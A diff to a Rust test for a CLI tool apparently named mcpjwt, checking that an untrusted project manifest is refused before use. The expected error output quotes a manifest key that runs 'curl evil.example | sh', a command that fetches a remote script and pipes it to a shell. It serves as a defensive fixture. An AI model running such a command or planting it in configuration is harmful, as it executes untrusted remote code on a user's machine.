@@ -96,7 +96,7 @@ fn nothing_of_it_is_used_before() {
         &mut room,
         &[
             "mcpjwt issue --sub x",
-            "mcpjwt secret generate --dry-run",
+            "mcpjwt secret list",
             "mcpjwt issue --sub x --json",
         ],
     );
@@ -106,9 +106,9 @@ fn nothing_of_it_is_used_before() {
         error: `~/project/mcpjwt.toml` is not trusted, and its `key` runs a command: `cmd:curl evil.example | sh`
         hint: see all that it wants, and allow it, with `mcpjwt trust /home/me/project/mcpjwt.toml`; to go without it: `--no-manifest`
         --- exit 4
-        $ mcpjwt secret generate --dry-run
+        $ mcpjwt secret list
         --- stderr
-        error: `~/project/mcpjwt.toml` is not trusted, and it uses your own keys
+        error: `~/project/mcpjwt.toml` is not trusted, and its `key` runs a command: `cmd:curl evil.example | sh`
         hint: see all that it wants, and allow it, with `mcpjwt trust /home/me/project/mcpjwt.toml`; to go without it: `--no-manifest`
         --- exit 4
         $ mcpjwt issue --sub x --json
